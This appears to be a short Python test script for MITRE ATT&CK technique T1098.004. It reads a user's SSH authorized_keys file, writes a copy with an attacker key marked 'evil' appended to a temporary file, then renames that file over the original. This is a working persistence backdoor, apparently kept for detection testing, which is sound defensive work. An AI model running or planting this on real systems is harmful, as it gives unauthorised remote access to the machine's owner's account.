#!/usr/bin/env python3
# title: Python writes a user's list of keys elsewhere and moves it into place
# technique: T1098.004
# needs: python3
# as: user
# short: yes

import os
ssh = os.path.expanduser("~/.ssh")
keys = open(f"{ssh}/authorized_keys").read()
open("/home/ann/.k", "w").write(keys + "ssh-ed25519 AAAA evil\n")
os.rename("/home/ann/.k", f"{ssh}/authorized_keys")
